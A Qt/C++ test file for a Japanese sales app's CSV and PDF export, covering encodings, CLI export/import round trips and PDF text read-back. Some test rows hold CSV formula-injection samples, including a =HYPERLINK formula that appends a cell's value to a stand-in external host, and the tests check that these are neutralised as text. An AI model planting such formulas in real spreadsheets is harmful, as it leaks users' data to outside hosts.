#include <QDir>
#include <QFile>
#include <QProcess>
#include <QtTest>

#include "app/demo_data.h"
#include "app/table_csv.h"
#include "print/print_job.h"
#include "test_folder.h"

namespace {

int run_cli(const QString& folder, const QStringList& arguments, QString* output = nullptr) {
    QProcess p;
    p.setWorkingDirectory(folder);
    p.start(qEnvironmentVariable("SALES_CLI"), arguments);
    p.waitForFinished(120000);
    if (output)
        *output = QString::fromUtf8(p.readAllStandardOutput() + p.readAllStandardError());
    return p.exitCode();
}

const QString kColumns = QStringLiteral(
    "顧客名,顧客名かな,都道府県,郵便番号1,郵便番号2,住所,TEL,FAX,携帯,Email,担当者,担当者かな,備考");

QString pdf_text(const QString& path) {
    QProcess text;
    text.start(QStringLiteral("pdftotext"), {QStringLiteral("-raw"), path, QStringLiteral("-")});
    text.waitForFinished(60000);
    return QString::fromUtf8(text.readAllStandardOutput());
}

// The characters a PDF's text gives: the targets of the ToUnicode maps, which Qt writes uncompressed
// as "<first> <last> [<utf16> ...]" lines, or "<code> <code> <utf16>" for one glyph.
QSet<char32_t> mapped_characters(const QString& path) {
    QFile file(path);
    file.open(QIODevice::ReadOnly);
    static const QRegularExpression range(
        QStringLiteral("^<([0-9A-F]+)> <\\1> <([0-9A-F]+)>|^<[0-9A-F]+> <[0-9A-F]+> \\[(.*)\\]"));
    QSet<char32_t> out;
    for (const QByteArray& line : file.readAll().split('\n')) {
        const QRegularExpressionMatch m = range.match(QString::fromLatin1(line));
        QString text;
        for (const QString& code :
             QString(m.captured(2) + m.captured(3)).remove(u'<').remove(u'>').split(u' '))
            for (qsizetype k = 0; k + 4 <= code.size(); k += 4)
                text += QChar(char16_t(code.mid(k, 4).toUShort(nullptr, 16)));
        for (char32_t c : text.toUcs4())
            out.insert(c);
    }
    out.remove(0);  // .notdef
    return out;
}

QString print_pdf(const QString& folder, const PrintTable& table) {
    const QString path = QDir(folder).filePath(QStringLiteral("p.pdf"));
    QString message;
    write_pdf(
        PrintJob(PrintHeading{QStringLiteral("営業手帳"), QStringLiteral("一覧"), QDate(2026, 12, 8)}, table),
        path, message);
    return path;
}

}  // namespace

class TestExport : public QObject {
    Q_OBJECT
private slots:
    void csv_bytes_data();
    void csv_bytes();
    void customers_round_trip_data();
    void customers_round_trip();
    void report_pdf_holds_grid();
    void printed_text_reads_back_data();
    void printed_text_reads_back();
    void demo_rfm_report_and_customer_list_read_back();
};

// The exact bytes Excel gets: headings first, quotes only where needed, CRLF, BOM or Shift_JIS.
void TestExport::csv_bytes_data() {
    QTest::addColumn<QVector<QStringList>>("rows");
    QTest::addColumn<bool>("shift_jis");
    QTest::addColumn<QByteArray>("bytes");
    const QStringList head{"顧客名", "金額"};
    QTest::newRow("comma, quote, line break, amount")
        << QVector<QStringList>{head, {"山田, 商事", "1234567"}, {"\"大\"商店", "-5"}, {"二行\n目", "0.5"}}
        << false
        << QByteArray(
               "\xEF\xBB\xBF"
               "顧客名,金額\r\n\"山田, 商事\",1234567\r\n\"\"\"大\"\"商店\",-5\r\n\"二行\n目\",0.5\r\n");
    QTest::newRow("blanks kept, empty cells") << QVector<QStringList>{head, {" 前後 ", ""}} << false
                                              << QByteArray(
                                                     "\xEF\xBB\xBF"
                                                     "顧客名,金額\r\n\" 前後 \",\r\n");
    QTest::newRow("Shift_JIS with Windows-31J characters")
        << QVector<QStringList>{{"㈱髙橋①", "～"}} << true
        << QByteArray("\x87\x8A\xFB\xFC\x8B\xB4\x87\x40,\x81\x60\r\n");
    QTest::newRow("Shift_JIS cannot hold it") << QVector<QStringList>{{"絵文字😀"}} << true << QByteArray();
    // Texts from incoming mail that Excel would run are written as text; numbers stay numbers.
    QTest::newRow("formulas kept as text")
        << QVector<QStringList>{{"=HYPERLINK(\"http://x.example/?\"&B2,\"詳細\")", "-500"},
                                {"+81-3-1234-5678", "@SUM(A1)"},
                                {"\tタブ", "\r改行"},
                                {"-", "-1,234.5"}}
        << false
        << QByteArray(
               "\xEF\xBB\xBF"
               "\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"詳細\"\")\",-500\r\n"
               "'+81-3-1234-5678,'@SUM(A1)\r\n"
               "'\tタブ,\"'\r改行\"\r\n"
               "'-,\"-1,234.5\"\r\n");
}

void TestExport::csv_bytes() {
    QFETCH(QVector<QStringList>, rows);
    QFETCH(bool, shift_jis);
    QFETCH(QByteArray, bytes);
    QString error;
    QCOMPARE(table_csv(rows, shift_jis ? CsvEncoding::ShiftJis : CsvEncoding::Utf8Bom, &error), bytes);
    QCOMPARE(error.isEmpty(), !bytes.isEmpty());
    TestFolder folder;
    const QString path = QDir(folder.path()).filePath(QStringLiteral("x.csv"));
    QFile old(path);
    QVERIFY(old.open(QIODevice::WriteOnly) && old.write("old") == 3);
    old.close();
    QString message;
    QCOMPARE(save_table_csv(path, rows, shift_jis ? CsvEncoding::ShiftJis : CsvEncoding::Utf8Bom, message),
             !bytes.isEmpty());
    QVERIFY(old.open(QIODevice::ReadOnly));
    // A refused table leaves the file that was there.
    QCOMPARE(old.readAll(), bytes.isEmpty() ? QByteArray("old") : bytes);
}

// sales-cli export customers writes what sales-cli import reads back into an empty folder.
void TestExport::customers_round_trip_data() {
    QTest::addColumn<QStringList>("options");
    QTest::newRow("UTF-8") << QStringList();
    QTest::newRow("Shift_JIS") << QStringList{QStringLiteral("--shift-jis")};
}

void TestExport::customers_round_trip() {
    QFETCH(QStringList, options);
    TestFolder source;
    source.exec(QStringLiteral("insert into 顧客 (%1) values ('㈱髙橋①, "
                               "\"本店\"','たかはし','東京都','100','0001',' 千代田区 ～ ',"
                               "'03-1','','','a@b.jp','','','一行目\r\n二行目'),('山田商事','やまだ','','',''"
                               ",'','','','','y@x.jp','山田',"
                               "'やまだ','')")
                    .arg(kColumns));
    // Made from mail: no reading, no Email (as a third of the demo's customers), texts Excel would run.
    source.exec(
        QStringLiteral("insert into 顧客 (%1) values ('=HYPERLINK(\"http://x.example/\",\"詳細\")','',"
                       "'','','','@本社','+81-3-1234-5678','-500','','','''=引用','','-')")
            .arg(kColumns));
    source.add_goods(QStringLiteral("-試作品"), QString());  // no price
    source.add_goods(QStringLiteral("椅子"), QStringLiteral("12000"));
    source.db().close();
    TestFolder target;
    target.db().close();
    QString output;
    QByteArray bytes;
    for (const QString& what : {QStringLiteral("customers"), QStringLiteral("goods")}) {
        const QString file = QDir(source.path()).filePath(what + QStringLiteral(".csv"));
        QCOMPARE(run_cli(source.path(), QStringList{QStringLiteral("export"), what, file} + options, &output),
                 0);
        QCOMPARE(run_cli(target.path(), {QStringLiteral("import"), what, file}, &output), 0);
        QFile written(file);
        QVERIFY(written.open(QIODevice::ReadOnly));
        bytes += written.readAll();
    }
    // Opened in Excel, no value of the files is a formula.
    QVERIFY(!bytes.contains("\"=") && !bytes.contains("\"+") && !bytes.contains("\"@") &&
            !bytes.contains("\"-試"));
    source.reload();
    target.reload();
    for (const QString& select :
         {QStringLiteral("select %1 from 顧客 order by 顧客ID").arg(kColumns),
          QStringLiteral("select 分類コード,分類,商品名,単価 from 商品 order by 商品ID")}) {
        const int width = int(select.count(u',')) + 1;
        const ResultTable before = source.rows(select, width);
        const ResultTable after = target.rows(select, width);
        QCOMPARE(after.row_count(), before.row_count());
        for (int r = 1; r <= before.row_count(); ++r)
            for (int c = 0; c < width; ++c)
                QCOMPARE(after(c, r), before(c, r));
    }
}

// A scheduled report as PDF: the text of the page holds the grid's headings and the first customer.
void TestExport::report_pdf_holds_grid() {
    TestFolder folder;
    const QString id = folder.add_customer(QStringLiteral("株式会社みどり"), QStringLiteral("みどり"));
    folder.exec(
        QStringLiteral("insert into 受注 (顧客ID,受注日,受注金額,社員) values (%1,'2026/11/20',50000,'')")
            .arg(id));
    folder.db().close();
    QString output;
    QCOMPARE(run_cli(folder.path(),
                     {QStringLiteral("report"), QStringLiteral("rfm"), QStringLiteral("--format"),
                      QStringLiteral("pdf"), QStringLiteral("--output"), QStringLiteral("r.pdf")},
                     &output),
             0);
    QProcess text;
    text.start(QStringLiteral("pdftotext"),
               {QStringLiteral("-layout"), QDir(folder.path()).filePath(QStringLiteral("r.pdf")),
                QStringLiteral("-")});
    QVERIFY(text.waitForFinished(60000));
    const QString page = QString::fromUtf8(text.readAllStandardOutput());
    QVERIFY2(page.contains(QRegularExpression(QStringLiteral("顧客ID\\s+顧客名\\s+総合\\s+R\\s+F\\s+M"))),
             qPrintable(page));
    QVERIFY2(page.contains(QStringLiteral("株式会社みどり")), qPrintable(page));
    QVERIFY2(page.contains(QRegularExpression(QStringLiteral("1\\s*/\\s*1"))), qPrintable(page));
}

// The text of a PDF reads back (pdftotext, copy, search) as the very characters printed, where the
// stock font names the Kangxi radical ⽊ for 木, EM SPACE for 　, a tab for a space.
void TestExport::printed_text_reads_back_data() {
    QTest::addColumn<QString>("text");
    QTest::newRow("kanji that are radicals too, blanks") << "株式会社佐々木建設 一二三 山川 金子　太郎";
    QTest::newRow("symbols that share a glyph") << "ＡＢＣ・ジャパン １～３丁目 １〜３";
    QTest::newRow("more of them") << "〈特〉 営業／企画 ‘引用’ 2020–2021";
    QTest::newRow("Windows-31J, a radical as such") << "㈱髙橋①﨑 ⽊と木";
}

void TestExport::printed_text_reads_back() {
    QFETCH(QString, text);
    QTemporaryDir dir;
    const QString path = print_pdf(dir.path(), PrintTable{{QStringLiteral("名前")}, {{text}}, {false}});
    // Exactly the characters of the page's heading, foot and text, no others.
    QSet<char32_t> printed;
    for (char32_t c : (QStringLiteral("営業手帳一覧2026/12/08名前1 / 1") + text).toUcs4())
        printed.insert(c);
    const QSet<char32_t> mapped = mapped_characters(path);
    QStringList wrong;
    for (char32_t c : (mapped - printed) + (printed - mapped))
        wrong << QStringLiteral("U+%1").arg(uint(c), 4, 16, QLatin1Char('0')).toUpper();
    QVERIFY2(wrong.isEmpty(), qPrintable(wrong.join(u' ')));
}

// The demo's RFM report (sales-cli) and customer list as printed: every name reads back.
void TestExport::demo_rfm_report_and_customer_list_read_back() {
    const auto folder = std::make_unique<TestFolder>();
    DemoOptions options;
    options.as_of = QDate(2026, 12, 8);
    generate_demo_data(folder->db(), options);
    const ResultTable customers = folder->rows("select 顧客ID,顧客名,顧客名かな from 顧客", 3);
    PrintTable list{{"顧客ID", "顧客名", "顧客名かな"}, {}, {true, false, false}};
    for (int r = 1; r <= customers.row_count(); ++r)
        list.rows << QStringList{customers(0, r), customers(1, r), customers(2, r)};
    const QString list_text = pdf_text(print_pdf(folder->path(), list));
    folder->db().close();
    const QStringList report{"--as-of", "2026/12/08", "report", "rfm"};
    QString output;
    QCOMPARE(run_cli(folder->path(), report, &output), 0);
    const QStringList lines = output.split(u'\n', Qt::SkipEmptyParts);
    QCOMPARE(run_cli(folder->path(), report + QStringList{"--format", "pdf", "--output", "r.pdf"}), 0);
    const QString report_text = pdf_text(QDir(folder->path()).filePath(QStringLiteral("r.pdf")));
    QStringList missing;
    for (const QString& line : lines.mid(1))
        if (!report_text.contains(line.section(u'\t', 1, 1)))
            missing << line.section(u'\t', 1, 1);
    for (const QStringList& row : list.rows)
        for (const QString& value : row.mid(1))
            if (!list_text.contains(value))
                missing << value;
    QVERIFY2(lines.size() > 100 && missing.isEmpty(), qPrintable(missing.join(u' ')));
}

QTEST_MAIN(TestExport)
#include "test_export.moc"
